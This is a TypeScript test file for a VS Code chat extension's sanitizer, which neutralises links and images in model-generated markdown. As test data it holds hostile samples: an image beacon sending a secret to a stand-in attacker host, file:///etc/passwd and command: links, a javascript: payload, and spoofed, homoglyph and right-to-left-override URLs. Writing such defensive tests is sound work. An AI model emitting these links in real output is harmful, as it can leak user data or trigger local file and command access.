// Model output handed to VS Code's chat (@gateway): links and images pass the shared link policy first.
import { strict as assert } from 'node:assert';
import { ChatMarkdownSanitizer, sanitizeLine } from '../../../src/lm/chatMarkdown';

function whole(text: string): string {
  const s = new ChatMarkdownSanitizer();
  return s.push(text) + s.end();
}

describe('lm: chat markdown from model output', () => {
  const cases: Array<[string, string]> = [
    ['See [docs](https://example.com/docs).', 'See [docs](https://example.com/docs).'],
    ['[login](https://user:pw@example.com/)', 'login `https://user:pw@example.com/`'],
    ['[gh](http://github.com:x@127.0.0.1/steal)', 'gh `http://github.com:x@127.0.0.1/steal`'],
    ['[cmd](command:workbench.action.terminal.new "Run")', 'cmd `command:workbench.action.terminal.new`'],
    ['[file](file:///etc/passwd)', 'file `file:///etc/passwd`'],
    ['[data](data:text/html,x)', 'data `data:text/html,x`'],
    ['[js](javascript:alert(1))', 'js `javascript:alert(1)`'],
    ['[vs](vscode://vscode.git/clone?url=x)', 'vs `vscode://vscode.git/clone?url=x`'],
    ['[mail](mailto:a@example.com)', 'mail `mailto:a@example.com`'],
    ['[rtl](https://example.com/\u202Etxt.exe)', 'rtl `https://example.com/\\u{202e}txt.exe`'],
    ['[apple](https://\u0430pple.com/)', 'apple `https://\u0430pple.com/`'],
    ['[https://good.example](https://user:pw@evil.example)', 'https://good.example `https://user:pw@evil.example`'],
    ['[x](<file:///a b>)', 'x `file:///a b`'],
    [
      '<https://ok.example/> <file:///etc/passwd> <command:x>',
      '<https://ok.example/> `file:///etc/passwd` `command:x`',
    ],
    [
      'bare https://user:pw@evil.example/x and https://fine.example/y.',
      'bare `https://user:pw@evil.example/x` and https://fine.example/y.',
    ],
    ['![beacon](https://evil.example/?q=secret)', '`image not shown: beacon` `https://evil.example/?q=secret`'],
    [
      '[![img](https://evil.example/p.png)](https://example.com/)',
      '[`image not shown: img` `https://evil.example/p.png`](https://example.com/)',
    ],
    ['[r]: file:///etc/passwd', '\\[r\\]: `file:///etc/passwd`'],
    ['[ok]: https://example.com/', '[ok]: https://example.com/'],
    [
      'inline `[c](command:x)` and ``a ` [b](file:///c) `` stay code',
      'inline `[c](command:x)` and ``a ` [b](file:///c) `` stay code',
    ],
    ['[t](file:///x`y)', 't ``file:///x`y``'],
    ['escaped \\[not](file:///a) link', 'escaped \\[not](file:///a) link'],
  ];
  for (const [input, expected] of cases) {
    it(`${JSON.stringify(input)} → ${JSON.stringify(expected)}`, () => {
      assert.equal(sanitizeLine(input), expected);
      assert.equal(whole(input), expected);
    });
  }

  it('leaves fenced code blocks as they are', () => {
    const text =
      'before [a](file:///x)\n```md\n[inside](command:keep.as.is)\n![i](https://evil.example/)\n```\nafter [b](command:y)\n~~~\n<file:///z>\n~~~\n';
    assert.equal(
      whole(text),
      'before a `file:///x`\n```md\n[inside](command:keep.as.is)\n![i](https://evil.example/)\n```\nafter b `command:y`\n~~~\n<file:///z>\n~~~\n',
    );
  });

  it('streams: any split gives the same markdown, and text is passed on before its line ends', () => {
    const text = [
      'Plain [docs](https://example.com/docs) and [cred](https://user:pw@example.com/) then some more words here.',
      'Auto <file:///etc/passwd> bare https://user:pw@evil.example/x and ![b](https://evil.example/b) `[c](command:x)`',
      '```ts',
      'const a = "[x](command:y)";',
      '```',
      '[r]: command:z',
      'the end without a newline [x](javascript:1)',
    ].join('\n');
    const expected = whole(text);
    for (const part of [
      'cred `https://user:pw@example.com/`',
      '`file:///etc/passwd`',
      '`image not shown: b`',
      '`[c](command:x)`',
      'const a = "[x](command:y)";',
      '\\[r\\]: `command:z`',
      'x `javascript:1`',
    ]) {
      assert.ok(expected.includes(part), part);
    }
    for (const size of [1, 2, 3, 5, 8, 13, 40]) {
      const s = new ChatMarkdownSanitizer();
      let out = '';
      let early = 0;
      for (let i = 0; i < text.length; i += size) {
        const piece = s.push(text.slice(i, i + size));
        if (piece && !piece.endsWith('\n')) early++;
        out += piece;
      }
      out += s.end();
      assert.equal(out, expected, `split every ${size}`);
      assert.ok(early > 0, `split every ${size}: part of a line went out before its end`);
    }
  });
});
